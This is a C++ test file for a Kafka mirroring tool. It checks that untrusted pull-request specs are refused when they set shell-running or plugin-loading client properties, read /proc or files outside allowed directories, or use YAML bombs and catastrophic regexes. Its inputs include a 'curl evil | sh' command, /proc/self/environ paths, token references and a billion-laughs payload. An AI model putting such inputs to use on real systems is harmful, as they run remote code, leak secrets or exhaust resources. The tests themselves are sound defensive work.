// What a pull request's spec cannot make mirror do (issue 14): client properties outside the allowlist,
// references outside credentials or outside what the operator allows, hostile YAML and hostile regexes.
#include "spec/trust.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>

#include "common/redact.h"
#include "spec/load.h"
#include "spec/value.h"

namespace mirror::spec {
namespace {

namespace fs = std::filesystem;

OperatorSettings settings_from(std::map<std::string, std::string> vars) {
  return OperatorSettings::from([&](const char* name) -> std::optional<std::string> {
    auto it = vars.find(name);
    if (it == vars.end()) return std::nullopt;
    return it->second;
  });
}

// A spec with one cluster A whose client block is `client` (indented by 6 spaces).
std::string with_client(const std::string& client) {
  return "version: 1\n"
         "clusters:\n"
         "  A:\n"
         "    bootstrap: a:9092\n"
         "    client:\n" +
         client +
         "  B: {bootstrap: b:9092}\n"
         "flows:\n"
         "  - {source: A, target: B, topics: {include: [orders]}}\n";
}

LoadResult load(const std::string& yaml, const OperatorSettings& settings = {}) {
  return parse_files({{"t.yaml", yaml}}, Origin{"t.yaml"}, settings);
}

// The only diagnostic (an error) as "file:line:col: message".
std::string only_error(const LoadResult& r) {
  EXPECT_FALSE(r.spec.has_value());
  const auto diags = r.diagnostics.sorted();
  EXPECT_EQ(diags.size(), 1u);
  if (diags.empty()) return "";
  EXPECT_EQ(diags[0].severity, Severity::error);
  return diags[0].where.str() + ": " + diags[0].message;
}

std::string only_hint(const LoadResult& r) {
  const auto diags = r.diagnostics.sorted();
  return diags.empty() ? "" : diags[0].hint;
}

bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

// ---------------------------------------------------------------------------------------------------
// Client properties.

TEST(ClientProperties, CommandsAndCodeAreRefusedWhereWritten) {
  auto kinit = load(with_client("      sasl.kerberos.kinit.cmd: \"sh -c 'curl evil | sh'\"\n"));
  EXPECT_EQ(
      only_error(kinit),
      "t.yaml:6:7: client property sasl.kerberos.kinit.cmd of cluster A is not allowed in a spec: it runs "
      "a shell command on the machine running mirror");
  EXPECT_TRUE(has(only_hint(kinit), "MIRROR_ALLOW_CLIENT_PROPERTIES=sasl.kerberos.kinit.cmd"));

  auto plugin = load(with_client("      security.protocol: SSL\n      plugin.library.paths: /tmp/evil.so\n"));
  EXPECT_EQ(
      only_error(plugin),
      "t.yaml:7:7: client property plugin.library.paths of cluster A is not allowed in a spec: it loads "
      "plugin code into mirror");

  for (const char* name : {"ssl.engine.location", "ssl_engine_location", "ssl.engine.id", "ssl.providers",
                           "interceptors", "oauthbearer_token_refresh_cb"}) {
    auto r = load(with_client(std::string("      ") + name + ": x\n"));
    EXPECT_TRUE(has(only_error(r), "is not allowed in a spec")) << name;
  }
}

TEST(ClientProperties, DebugPointsAtMirrorKafkaDebug) {
  auto r = load(with_client("      debug: all\n"));
  EXPECT_EQ(only_error(r), "t.yaml:6:7: client property debug of cluster A is not allowed in a spec");
  EXPECT_TRUE(has(only_hint(r), "MIRROR_KAFKA_DEBUG"));
}

TEST(ClientProperties, UnknownPropertyGetsTheNearestNameOrHowToEnableIt) {
  auto typo = load(with_client("      ssl.ca.locaton: /etc/ca.pem\n"));
  EXPECT_EQ(only_error(typo),
            "t.yaml:6:7: client property ssl.ca.locaton of cluster A is not one mirror accepts "
            "in a spec");
  EXPECT_EQ(only_hint(typo), "did you mean \"ssl.ca.location\"?");

  auto other = load(with_client("      enable.auto.commit: \"true\"\n"));
  EXPECT_TRUE(has(only_error(other), "t.yaml:6:7: client property enable.auto.commit"));
  EXPECT_TRUE(has(only_hint(other), "MIRROR_ALLOW_CLIENT_PROPERTIES=enable.auto.commit"));

  // metadata.broker.list would bypass bootstrap (and MIRROR_ALLOW_BOOTSTRAP).
  auto brokers = load(with_client("      metadata.broker.list: evil:9092\n"));
  EXPECT_TRUE(has(only_error(brokers), "metadata.broker.list belongs in the cluster's bootstrap key"));
}

TEST(ClientProperties, TheOperatorCanAllowOneOutsideTheSpec) {
  const auto settings = settings_from({{"MIRROR_ALLOW_CLIENT_PROPERTIES", "sasl.kerberos.kinit.cmd, debug"}});
  auto r = load(with_client("      sasl.kerberos.kinit.cmd: kinit -k\n      debug: broker\n"), settings);
  ASSERT_TRUE(r.spec.has_value()) << (r.diagnostics.empty() ? "" : format_text(r.diagnostics.sorted()[0]));
  EXPECT_EQ(r.spec->clusters.at("A").client.at("sasl.kerberos.kinit.cmd").raw, "kinit -k");
  // Only what it names.
  auto other = load(with_client("      plugin.library.paths: x.so\n"), settings);
  EXPECT_FALSE(other.spec.has_value());
}

TEST(ClientProperties, TurningOffTlsVerificationNeedsTheOperator) {
  auto off = load(with_client("      enable.ssl.certificate.verification: \"false\"\n"));
  EXPECT_TRUE(has(only_error(off),
                  "t.yaml:6:44: client property enable.ssl.certificate.verification turns "
                  "off the verification of the brokers' TLS certificates"))
      << only_error(off);
  auto host = load(with_client("      ssl.endpoint.identification.algorithm: none\n"));
  EXPECT_TRUE(has(only_error(host), "ssl.endpoint.identification.algorithm turns off the check"));
  // Turning them on (or leaving the default) is fine; the operator can allow turning them off.
  EXPECT_TRUE(load(with_client("      enable.ssl.certificate.verification: \"true\"\n"
                               "      ssl.endpoint.identification.algorithm: https\n"))
                  .spec.has_value());
  const auto settings =
      settings_from({{"MIRROR_ALLOW_CLIENT_PROPERTIES", "enable.ssl.certificate.verification"}});
  EXPECT_TRUE(
      load(with_client("      enable.ssl.certificate.verification: \"false\"\n"), settings).spec.has_value());
}

TEST(ClientProperties, UrlPropertiesFollowMirrorAllowUrls) {
  const std::string spec = with_client(
      "      sasl.mechanism: OAUTHBEARER\n"
      "      sasl.oauthbearer.token.endpoint.url: https://evil.example/token\n");
  EXPECT_TRUE(load(spec).spec.has_value());  // unset: any URL
  const auto settings = settings_from({{"MIRROR_ALLOW_URLS", "https://login.corp.example/"}});
  auto r = load(spec, settings);
  EXPECT_TRUE(has(only_error(r),
                  "sasl.oauthbearer.token.endpoint.url names a URL this runner's "
                  "MIRROR_ALLOW_URLS does not allow"))
      << only_error(r);
  EXPECT_FALSE(has(only_error(r), "evil.example"));
  EXPECT_EQ(
      check_property_value("sasl.oauthbearer.token.endpoint.url", "https://login.corp.example/t", settings),
      std::nullopt);
}

TEST(ClientProperties, OrdinaryReplicationSettingsAreAccepted) {
  auto r =
      load(with_client("      security.protocol: SASL_SSL\n"
                       "      sasl.mechanism: SCRAM-SHA-512\n"
                       "      sasl.username: mirror\n"
                       "      sasl.password: ${env:MIRROR_SECRET_A}\n"
                       "      ssl.ca.location: /etc/mirror/ca.pem\n"
                       "      ssl.endpoint.identification.algorithm: https\n"
                       "      client.id: mirror-a\n"
                       "      socket.timeout.ms: \"60000\"\n"
                       "      linger.ms: \"5\"\n"
                       "      compression.type: zstd\n"
                       "      fetch.max.bytes: \"52428800\"\n"
                       "      enable.sasl.oauthbearer.unsecure.jwt: \"false\"\n"));
  EXPECT_TRUE(r.spec.has_value()) << (r.diagnostics.empty() ? "" : format_text(r.diagnostics.sorted()[0]));
}

TEST(ClientProperties, FileLocationsCannotPointIntoProcSysOrDev) {
  auto r = load(with_client("      ssl.ca.location: /proc/self/environ\n"));
  EXPECT_TRUE(
      has(only_error(r), "t.yaml:6:24: client property ssl.ca.location points into /proc, /sys or /dev"));
  auto keytab = load(with_client("      sasl.kerberos.keytab: /dev/../dev/stdin\n"));
  EXPECT_TRUE(has(only_error(keytab), "sasl.kerberos.keytab points into"));
  EXPECT_TRUE(check_location("ssl.key.location", "/sys/kernel/x").has_value());
  EXPECT_FALSE(check_location("ssl.key.location", "/etc/mirror/key.pem").has_value());
  EXPECT_FALSE(
      check_location("ssl.key.location", "/device/key.pem").has_value());  // /dev only as a component
}

TEST(ClientProperties, ALinkToProcIsRefusedWhenFollowingLinks) {
  const fs::path dir = fs::temp_directory_path() / ("mirror-trust-loc-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  fs::create_symlink("/proc/self/environ", dir / "ca.pem");
  EXPECT_TRUE(check_location("ssl.ca.location", (dir / "ca.pem").string()).has_value());
  EXPECT_FALSE(check_location("ssl.ca.location", (dir / "ca.pem").string(), false).has_value());
  fs::remove_all(dir);
}

// ---------------------------------------------------------------------------------------------------
// Where references may be written.

TEST(ReferencePlacement, NotInBootstrap) {
  auto r =
      load("version: 1\nclusters:\n  A:\n    bootstrap: evil-${env:HOST}:9092\n  B: {bootstrap: b:9092}\n");
  EXPECT_EQ(only_error(r), "t.yaml:4:21: bootstrap of cluster A cannot use a reference (${env:HOST})");
  EXPECT_TRUE(has(only_hint(r), "write the brokers literally"));
}

TEST(ReferencePlacement, OnlyInCredentials) {
  auto r = load(with_client("      ssl.ca.location: ${file:/etc/ca-path}\n"));
  EXPECT_EQ(only_error(r),
            "t.yaml:6:24: client property ssl.ca.location of cluster A cannot use a reference "
            "(${file:/etc/ca-path})");
  auto url = load(with_client("      client.id: \"x${env:GITHUB_TOKEN}\"\n"));
  EXPECT_EQ(only_error(url),
            "t.yaml:6:20: client property client.id of cluster A cannot use a reference "
            "(${env:GITHUB_TOKEN})");
  for (const char* ok : {"sasl.username", "sasl.password", "ssl.key.password", "sasl.oauthbearer.client.id",
                         "sasl.oauthbearer.client.secret", "ssl.key.pem"}) {
    EXPECT_TRUE(references_allowed_in(ok)) << ok;
  }
  EXPECT_FALSE(references_allowed_in("security.protocol"));
}

// ---------------------------------------------------------------------------------------------------
// ${env:} at resolve time and in validate.

Resolver env_resolver(const OperatorSettings& settings) {
  Resolver r;
  r.env = [](const std::string& n) -> std::optional<std::string> { return "value-of-" + n; };
  r.settings = settings;
  return r;
}

TEST(EnvReferences, RefusedUnlessTheOperatorAllowsThem) {
  const Value v{"${env:GITHUB_TOKEN}", {"t.yaml", 6, 22}};
  auto none = resolve(v, env_resolver({}));
  ASSERT_FALSE(none.ok());
  EXPECT_EQ(none.error().where.str(), "t.yaml:6:22");
  EXPECT_TRUE(has(none.error().message, "GITHUB_TOKEN"));
  EXPECT_TRUE(has(none.error().hint, "MIRROR_ALLOW_ENV"));
  EXPECT_FALSE(has(none.error().message + none.error().hint, "value-of-"));

  auto other = resolve(v, env_resolver(settings_from({{"MIRROR_ALLOW_ENV", "KAFKA_PASSWORD"}})));
  EXPECT_FALSE(other.ok());
  auto allowed =
      resolve(v, env_resolver(settings_from({{"MIRROR_ALLOW_ENV", "KAFKA_PASSWORD,GITHUB_TOKEN"}})));
  ASSERT_TRUE(allowed.ok());
  EXPECT_EQ(*allowed, "value-of-GITHUB_TOKEN");
}

TEST(EnvReferences, PrefixEntries) {
  const auto s = settings_from({{"MIRROR_ALLOW_ENV", "MIRROR_SECRET_*"}});
  EXPECT_TRUE(env_allowed("MIRROR_SECRET_A", s));
  EXPECT_TRUE(env_allowed("MIRROR_SECRET_", s));
  EXPECT_FALSE(env_allowed("MIRROR_SECRETS", s));
  EXPECT_FALSE(env_allowed("GITHUB_TOKEN", s));
  EXPECT_FALSE(env_allowed("GITHUB_TOKEN", {}));
  EXPECT_TRUE(env_allowed("ANY", settings_from({{"MIRROR_ALLOW_ENV", "*"}})));
}

TEST(EnvReferences, ResolvedValuesAreRegisteredAsSecrets) {
  clear_secrets_for_testing();
  auto r = resolve(Value{"u-${env:MIRROR_SECRET_A}", {}},
                   env_resolver(settings_from({{"MIRROR_ALLOW_ENV", "MIRROR_SECRET_*"}})));
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(contains_secret("log: value-of-MIRROR_SECRET_A"));
  EXPECT_EQ(redact("x value-of-MIRROR_SECRET_A y"), "x <secret not shown> y");
  clear_secrets_for_testing();
}

TEST(EnvReferences, ValidateReportsThemWhereWritten) {
  auto r = load(with_client("      sasl.username: mirror\n      sasl.password: ${env:GITHUB_TOKEN}\n"));
  ASSERT_TRUE(r.spec.has_value());
  auto d = check_operator_allowlists(*r.spec, settings_from({{"MIRROR_ALLOW_ENV", "MIRROR_*"}})).sorted();
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].where.str(), "t.yaml:7:22");
  EXPECT_TRUE(has(d[0].message, "environment variable GITHUB_TOKEN"));
  EXPECT_TRUE(has(d[0].hint, "MIRROR_ALLOW_ENV=GITHUB_TOKEN"));
  EXPECT_TRUE(
      check_operator_allowlists(*r.spec, settings_from({{"MIRROR_ALLOW_ENV", "GITHUB_TOKEN"}})).empty());
}

// ---------------------------------------------------------------------------------------------------
// ${file:}.

class FileReferences : public testing::Test {
 protected:
  void SetUp() override {
    root_ = fs::temp_directory_path() / ("mirror-trust-" + std::to_string(::getpid()));
    fs::remove_all(root_);
    fs::create_directories(root_ / "secrets");
    fs::create_directories(root_ / "elsewhere");
    write(root_ / "secrets" / "password", "hunter22\n");
    write(root_ / "elsewhere" / "other", "not-yours\n");
    fs::create_symlink(root_ / "elsewhere" / "other", root_ / "secrets" / "link-out");
    fs::create_symlink("/proc/self/environ", root_ / "secrets" / "environ");
    settings_ = settings_from({{"MIRROR_ALLOW_FILES", (root_ / "secrets").string() + ":/nonexistent"}});
  }
  void TearDown() override { fs::remove_all(root_); }
  static void write(const fs::path& p, const std::string& text) {
    std::ofstream(p, std::ios::binary) << text;
  }
  std::string path(const std::string& rel) const { return (root_ / rel).string(); }
  Result<std::string, Diagnostic> read(const std::string& p) const {
    Resolver r = Resolver::system();
    r.settings = settings_;
    return resolve(Value{"${file:" + p + "}", {"t.yaml", 9, 22}}, r);
  }

  fs::path root_;
  OperatorSettings settings_;
};

TEST_F(FileReferences, AnAllowedFileIsRead) {
  auto r = read(path("secrets/password"));
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(*r, "hunter22");
}

TEST_F(FileReferences, NothingWhenTheOperatorAllowsNoDirectory) {
  Resolver r = Resolver::system();
  r.settings = {};
  auto res = resolve(Value{"${file:" + path("secrets/password") + "}", {"t.yaml", 9, 22}}, r);
  ASSERT_FALSE(res.ok());
  EXPECT_TRUE(has(res.error().message, "allows no ${file:} references"));
  EXPECT_TRUE(has(res.error().hint, "MIRROR_ALLOW_FILES=/that/dir"));
}

TEST_F(FileReferences, DotDotIsRefused) {
  auto r = read(path("secrets/../elsewhere/other"));
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().where.str(), "t.yaml:9:22");
  EXPECT_TRUE(has(r.error().message, "\"..\""));
  EXPECT_FALSE(has(r.error().message, "not-yours"));
}

TEST_F(FileReferences, ASymbolicLinkOutOfTheDirectoryIsRefused) {
  auto r = read(path("secrets/link-out"));
  ASSERT_FALSE(r.ok());
  EXPECT_TRUE(has(r.error().message, "outside the directories MIRROR_ALLOW_FILES allows"));
  EXPECT_FALSE(has(r.error().message, "not-yours"));
}

TEST_F(FileReferences, ProcIsNeverRead) {
  auto direct = read("/proc/self/environ");
  ASSERT_FALSE(direct.ok());
  EXPECT_TRUE(has(direct.error().message, "/proc, /sys or /dev"));
  auto linked = read(path("secrets/environ"));
  ASSERT_FALSE(linked.ok());
  EXPECT_TRUE(has(linked.error().message, "/proc, /sys or /dev"));
  // Even when the operator allowed / itself.
  EXPECT_FALSE(check_file_reference("/proc/self/environ", settings_from({{"MIRROR_ALLOW_FILES", "/"}})).ok());
}

TEST_F(FileReferences, AtMostOneMebibyte) {
  write(root_ / "secrets" / "big", std::string(kMaxReferencedFileBytes + 1, 'x'));
  auto r = read(path("secrets/big"));
  ASSERT_FALSE(r.ok());
  EXPECT_TRUE(has(r.error().message, "larger than 1 MiB"));
}

TEST_F(FileReferences, ValidateChecksAMissingFileByItsPath) {
  auto spec = load(with_client("      sasl.password: ${file:" + path("secrets/not-yet") + "}\n"));
  ASSERT_TRUE(spec.spec.has_value());
  EXPECT_TRUE(check_operator_allowlists(*spec.spec, settings_).empty());
  auto outside = load(with_client("      sasl.password: ${file:/run/other/password}\n"));
  ASSERT_TRUE(outside.spec.has_value());
  auto d = check_operator_allowlists(*outside.spec, settings_).sorted();
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].where.str(), "t.yaml:6:22");
}

// ---------------------------------------------------------------------------------------------------
// Brokers.

TEST(Bootstrap, OnlyBrokersTheOperatorAllows) {
  EXPECT_TRUE(bootstrap_allowed("evil:9092", {}));  // unset: any
  EXPECT_TRUE(
      bootstrap_allowed("evil:9092", settings_from({{"MIRROR_ALLOW_BOOTSTRAP", " "}})));  // empty: unset
  const auto s = settings_from({{"MIRROR_ALLOW_BOOTSTRAP", "kafka-*.corp.example:9093, 10.0.0.1:9092"}});
  EXPECT_TRUE(bootstrap_allowed("kafka-1.corp.example:9093", s));
  EXPECT_TRUE(bootstrap_allowed("SASL_SSL://KAFKA-2.corp.example:9093", s));
  EXPECT_TRUE(bootstrap_allowed("10.0.0.1:9092", s));
  EXPECT_FALSE(bootstrap_allowed("kafka-1.corp.example:9092", s));
  EXPECT_FALSE(bootstrap_allowed("kafka-1.corp.example.evil.com:9093", s));
  EXPECT_FALSE(bootstrap_allowed("evil.com:9093", s));
  EXPECT_EQ(refused_bootstrap_entries("10.0.0.1:9092, evil:1", s), std::vector<std::string>{"evil:1"});

  auto r = load(with_client("      client.id: x\n"));
  ASSERT_TRUE(r.spec.has_value());
  auto d = check_operator_allowlists(*r.spec, settings_from({{"MIRROR_ALLOW_BOOTSTRAP", "a:9092"}})).sorted();
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].where.str(), "t.yaml:7:18");
  EXPECT_TRUE(has(d[0].message, "bootstrap broker b:9092 of cluster B is not allowed"));
}

// ---------------------------------------------------------------------------------------------------
// Hostile YAML.

TEST(HostileYaml, BillionLaughsIsRefusedQuickly) {
  std::string yaml = "version: 1\nx0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
  for (int i = 1; i < 10; ++i) {
    yaml += "x" + std::to_string(i) + ": &a" + std::to_string(i) + " [";
    for (int j = 0; j < 9; ++j) yaml += std::string(j ? ", " : "") + "*a" + std::to_string(i - 1);
    yaml += "]\n";
  }
  ASSERT_LT(yaml.size(), 1000u);
  const auto start = std::chrono::steady_clock::now();
  auto r = load(yaml);
  const auto took = std::chrono::steady_clock::now() - start;
  EXPECT_LT(took, std::chrono::milliseconds(500));
  ASSERT_FALSE(r.spec.has_value());
  const auto d = r.diagnostics.sorted();
  ASSERT_EQ(d.size(), 1u);
  EXPECT_TRUE(has(d[0].message, "YAML aliases expand this document to more than 100000 nodes"));
  EXPECT_EQ(d[0].where.file, "t.yaml");
  EXPECT_GT(d[0].where.line, 2);
}

TEST(HostileYaml, DeepNestingAndSelfReferenceAreRefused) {
  auto deep = load("version: 1\nx: " + std::string(100, '[') + std::string(100, ']') + "\n");
  EXPECT_EQ(only_error(deep), "t.yaml:2:67: YAML nesting deeper than 64 levels");
  auto self = load("version: 1\nx: &a [1, *a]\n");
  EXPECT_TRUE(has(only_error(self), "t.yaml:2:11: YAML alias refers to a node that contains it"));
  auto big = load("version: 1\nx: " + std::string(kMaxReferencedFileBytes, ' ') + "1\n");
  EXPECT_EQ(only_error(big), "t.yaml: spec file is larger than 1 MiB");
}

TEST(HostileYaml, OrdinaryAnchorsStillWork) {
  auto r = load(
      "version: 1\n"
      "clusters:\n"
      "  A: {bootstrap: a:9092, client: &tls {security.protocol: SSL, ssl.ca.location: /etc/ca.pem}}\n"
      "  B: {bootstrap: b:9092, client: *tls}\n"
      "flows:\n"
      "  - {source: A, target: B, topics: {include: &t [orders]}}\n"
      "  - {source: B, target: A, topics: {include: *t}}\n");
  ASSERT_TRUE(r.spec.has_value()) << (r.diagnostics.empty() ? "" : format_text(r.diagnostics.sorted()[0]));
  EXPECT_EQ(r.spec->clusters.at("B").client.at("security.protocol").raw, "SSL");
}

// ---------------------------------------------------------------------------------------------------
// Hostile regular expressions: fail closed.

Pattern compiled(const std::string& source, int line) {
  auto r = Pattern::compile(source, Location{"t.yaml", line, 9});
  return std::get<Pattern>(r);
}

const std::string kSlowName = std::string(30, 'a') + "!";

TEST(HostileRegex, ACatastrophicExcludeExcludes) {
  Filter f{{compiled(".*", 3)}, {compiled("(a+)+$", 4)}};
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(f.exclude[0].match(kSlowName), Match::limit);
  const FilterDecision d = f.decide(kSlowName);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  EXPECT_FALSE(d.selected);
  ASSERT_TRUE(d.limit.has_value());
  EXPECT_EQ(d.limit->pattern, "(a+)+$");
  EXPECT_EQ(d.limit->where.str(), "t.yaml:4:9");
  EXPECT_TRUE(d.limit->in_exclude);
  EXPECT_FALSE(f.matches(kSlowName));
  // Names the pattern answers are unaffected.
  EXPECT_TRUE(f.decide("orders").selected);
  EXPECT_FALSE(f.decide("orders").limit.has_value());
  EXPECT_FALSE(f.matches("aaaa"));
}

TEST(HostileRegex, ACatastrophicIncludeDoesNotInclude) {
  Filter f{{compiled("(a+)+$", 3)}, {}};
  const FilterDecision d = f.decide(kSlowName);
  EXPECT_FALSE(d.selected);
  ASSERT_TRUE(d.limit.has_value());
  EXPECT_FALSE(d.limit->in_exclude);
  // Another include that matches still includes it; the limit then decided nothing.
  Filter g{{compiled("(a+)+$", 3), compiled("a+!", 4)}, {}};
  EXPECT_TRUE(g.decide(kSlowName).selected);
  EXPECT_FALSE(g.decide(kSlowName).limit.has_value());
}

TEST(HostileRegex, ConfigSyncExcludesOnALimit) {
  ConfigSync c;
  c.exclude = {compiled("(a+)+$", 5)};
  EXPECT_TRUE(c.excluded(kSlowName));
  EXPECT_FALSE(c.excluded("retention.ms"));
}

}  // namespace
}  // namespace mirror::spec
